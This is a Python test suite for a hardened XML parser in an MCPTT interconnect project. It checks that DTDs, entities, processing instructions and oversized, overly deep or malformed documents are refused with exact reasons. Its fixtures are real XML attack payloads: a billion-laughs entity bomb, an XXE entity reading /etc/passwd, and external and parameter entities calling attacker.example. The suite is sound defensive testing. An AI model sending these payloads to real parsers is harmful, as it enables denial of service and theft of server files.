"""Tests of mcinterconnect.xmlsafe: every classic XML attack is refused with its own reason."""

from __future__ import annotations

import http.server
import threading
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from mcinterconnect import xmlsafe
from mcinterconnect.xmlsafe import XmlSafetyError, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""

XXE_FILE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE mcpttinfo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<mcpttinfo xmlns="urn:3gpp:ns:mcpttInfo:1.0">&xxe;</mcpttinfo>
"""

XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE mcpttinfo [<!ENTITY xxe SYSTEM "http://attacker.example/steal">]>
<mcpttinfo>&xxe;</mcpttinfo>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE data [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<data>x</data>
"""

EXTERNAL_DTD_ONLY = b"""<?xml version="1.0"?>
<!DOCTYPE mcpttinfo SYSTEM "http://attacker.example/mcpttinfo.dtd">
<mcpttinfo/>
"""

INTERNAL_DTD_ONLY = b"""<!DOCTYPE mcpttinfo [<!ELEMENT mcpttinfo ANY>]><mcpttinfo/>"""

NORMAL = b"""<?xml version="1.0" encoding="UTF-8"?>
<!-- a comment is harmless -->
<mcpttinfo xmlns="urn:3gpp:ns:mcpttInfo:1.0">
  <mcptt-Params>
    <mcptt-request-uri type="Normal"><mcpttURI>sip:bob@b.mc.example</mcpttURI></mcptt-request-uri>
  </mcptt-Params>
</mcpttinfo>
"""


def nested(depth: int) -> bytes:
    return b"<a>" * depth + b"</a>" * depth


def refusal(data: bytes, **limits: int) -> str:
    with pytest.raises(XmlSafetyError) as caught:
        parse_xml(data, **limits)
    assert str(caught.value) == caught.value.reason
    assert "\n" not in caught.value.reason
    return caught.value.reason


def test_a_normal_document_parses() -> None:
    root = parse_xml(NORMAL)
    assert root.tag == "{urn:3gpp:ns:mcpttInfo:1.0}mcpttinfo"
    uri = root.find(".//{urn:3gpp:ns:mcpttInfo:1.0}mcpttURI")
    assert uri is not None and uri.text == "sip:bob@b.mc.example"


def test_character_references_predefined_entities_cdata_and_bom_are_fine() -> None:
    root = parse_xml(b"\xef\xbb\xbf<a>&lt;&amp;&#65;&#x42;<![CDATA[<c>]]></a>")
    assert root.text == "<&AB<c>"


def test_the_error_is_a_value_error() -> None:
    assert issubclass(XmlSafetyError, ValueError)


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (BILLION_LAUGHS, "document has a DTD (refused)"),
        (XXE_FILE, "document has a DTD (refused)"),
        (XXE_HTTP, "document has a DTD (refused)"),
        (PARAMETER_ENTITY, "document has a DTD (refused)"),
        (EXTERNAL_DTD_ONLY, "document has a DTD (refused)"),
        (INTERNAL_DTD_ONLY, "document has a DTD (refused)"),
        # Without a DOCTYPE an entity declaration is not well-formed, but it is refused before parsing.
        (b'<a><!ENTITY x "y"></a>', "document declares an entity (refused)"),
        # The byte scan is deliberately blind to context: markup hidden in CDATA is refused too.
        (b"<a><![CDATA[<!DOCTYPE a>]]></a>", "document has a DTD (refused)"),
    ],
    ids=[
        "billion-laughs",
        "xxe-file",
        "xxe-http",
        "parameter-entity",
        "external-dtd",
        "internal-dtd",
        "entity",
        "cdata",
    ],
)
def test_dtds_and_entities_are_refused_before_parsing(document: bytes, reason: str) -> None:
    assert refusal(document) == reason


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, XXE_FILE, XXE_HTTP, PARAMETER_ENTITY, EXTERNAL_DTD_ONLY, INTERNAL_DTD_ONLY],
    ids=["billion-laughs", "xxe-file", "xxe-http", "parameter-entity", "external-dtd", "internal-dtd"],
)
def test_the_parsed_tree_check_refuses_dtds_on_its_own(
    document: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Second line of defence: with the byte scan disabled, the DTD is still refused after parsing."""
    monkeypatch.setattr(xmlsafe, "_DTD_MARKERS", ())
    reason = refusal(document)
    if document is BILLION_LAUGHS:
        # libxml2 (2.11 and later) stops the amplification itself, even with entity expansion off.
        assert reason == "document has a DTD (refused)" or reason.startswith("malformed XML: ")
    else:
        assert reason == "document has a DTD (refused)"


def test_the_parser_reads_no_file(tmp_path: Path) -> None:
    """Third line: the parser configuration itself never substitutes an external entity."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    document = f'<!DOCTYPE a [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]><a>&xxe;</a>'.encode()
    root = xmlsafe._parse(document, max_depth=32)
    assert "TOP-SECRET" not in etree.tostring(root).decode()


def test_the_parser_makes_no_network_request() -> None:
    requests: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            body = b'<!ENTITY leak "LEAKED">'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        base = f"http://127.0.0.1:{server.server_address[1]}"
        documents = [
            f'<!DOCTYPE a SYSTEM "{base}/external.dtd"><a/>',
            f'<!DOCTYPE a [<!ENTITY xxe SYSTEM "{base}/entity">]><a>&xxe;</a>',
            f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{base}/parameter.dtd"> %p;]><a>&leak;</a>',
        ]
        for document in documents:
            try:
                root = xmlsafe._parse(document.encode(), max_depth=32)
            except XmlSafetyError:
                continue
            assert "LEAKED" not in etree.tostring(root).decode()
            with pytest.raises(XmlSafetyError):
                parse_xml(document.encode())
    finally:
        server.shutdown()
        server.server_close()
    assert requests == []


def test_an_undeclared_entity_is_malformed() -> None:
    assert refusal(b"<a>&xxe;</a>") == "malformed XML: Entity 'xxe' not defined, line 1, column 9"


def test_oversized_document() -> None:
    document = b"<a>" + b"x" * 65_536 + b"</a>"
    assert refusal(document) == "document exceeds 65536 bytes"
    assert refusal(b"<a>xxxxxxxx</a>", max_bytes=10) == "document exceeds 10 bytes"


def test_size_limit_is_inclusive() -> None:
    document = b"<a>" + b"x" * (65_536 - 7) + b"</a>"
    assert len(document) == 65_536
    assert parse_xml(document).tag == "a"


def test_too_deep() -> None:
    assert parse_xml(nested(32)).tag == "a"
    assert refusal(nested(33)) == "element depth exceeds 32"
    assert refusal(nested(5), max_depth=4) == "element depth exceeds 4"


def test_deeper_than_libxml2_allows_reports_our_limit() -> None:
    assert refusal(nested(300)) == "element depth exceeds 32"


def test_too_many_elements() -> None:
    wide = b"<a>" + b"<b/>" * 1_999 + b"</a>"
    assert parse_xml(wide).tag == "a"
    assert refusal(b"<a>" + b"<b/>" * 2_000 + b"</a>") == "element count exceeds 2000"
    assert refusal(b"<a><b/><b/></a>", max_elements=2) == "element count exceeds 2"


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (
            b'<?xml-stylesheet href="x.xsl"?><a/>',
            "document has a processing instruction <?xml-stylesheet?> (refused)",
        ),
        (b"<a><?php echo 1; ?></a>", "document has a processing instruction <?php?> (refused)"),
        (b"<a/><?after x?>", "document has a processing instruction <?after?> (refused)"),
    ],
    ids=["prolog", "inside", "epilogue"],
)
def test_processing_instructions_are_refused(document: bytes, reason: str) -> None:
    assert refusal(document) == reason


def test_the_xml_declaration_is_not_a_processing_instruction() -> None:
    assert parse_xml(b"<?xml version='1.0' encoding='utf-8' standalone='yes'?><a/>").tag == "a"


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (b"<a>", "malformed XML: Premature end of data in tag a line 1, line 1, column 4"),
        (b"<a><b></a>", "malformed XML: Opening and ending tag mismatch: b line 1 and a, line 1, column 11"),
        (b"<a/><b/>", "malformed XML: Extra content at the end of the document, line 1, column 5"),
        (b"just text", "malformed XML: Start tag expected, '<' not found, line 1, column 1"),
    ],
)
def test_malformed_documents(document: bytes, reason: str) -> None:
    assert refusal(document) == reason


def test_every_malformed_reason_is_one_line() -> None:
    assert refusal(b"<a>\x00</a>").startswith("malformed XML: Invalid character")


def test_empty_document() -> None:
    assert refusal(b"") == "document is empty"


def test_only_utf8_is_accepted() -> None:
    assert refusal(b"<a>\xe9</a>") == "document is not UTF-8 (invalid byte at offset 3)"
    assert refusal("<a/>".encode("utf-16")) == "document is not UTF-8 (invalid byte at offset 0)"
    latin = b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xc3\xa9</a>'
    assert refusal(latin) == "document declares encoding 'ISO-8859-1' (only UTF-8 is accepted)"
    assert parse_xml(b'<?xml version="1.0" encoding="utf-8"?><a>\xc3\xa9</a>').text == "é"


def test_bytes_only() -> None:
    with pytest.raises(TypeError):
        parse_xml("<a/>")  # type: ignore[arg-type]


def test_comments_are_kept_and_do_not_count_as_elements() -> None:
    root = parse_xml(b"<!-- before --><a><!-- x --><b/></a>", max_elements=2)
    assert [child.tag for child in root] == [etree.Comment, "b"]


@settings(max_examples=500, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_give_an_element_or_a_safety_error(data: bytes) -> None:
    try:
        root = parse_xml(data)
    except XmlSafetyError as exc:
        assert exc.reason and "\n" not in exc.reason
    else:
        assert isinstance(root, etree._Element)


_XML_PIECES = [
    b"<a>",
    b"</a>",
    b"<b x='1'/>",
    b"<!--c-->",
    b"<?p?>",
    b"&amp;",
    b"&e;",
    b"<![CDATA[x]]>",
    b"text",
    b"<",
    b"<!DOCTYPE a>",
    b"<!ENTITY e 'x'>",
    b"\xc3\xa9",
    b"\xff",
    b"<?xml version='1.0'?>",
    b"]]>",
    b" ",
]
_XMLISH = st.lists(st.sampled_from(_XML_PIECES), max_size=40).map(b"".join)


@settings(max_examples=500, deadline=None)
@given(_XMLISH)
def test_xml_like_bytes_give_an_element_or_a_safety_error(data: bytes) -> None:
    try:
        root = parse_xml(data, max_depth=4, max_elements=6)
    except XmlSafetyError as exc:
        assert exc.reason and "\n" not in exc.reason
    else:
        assert isinstance(root, etree._Element)
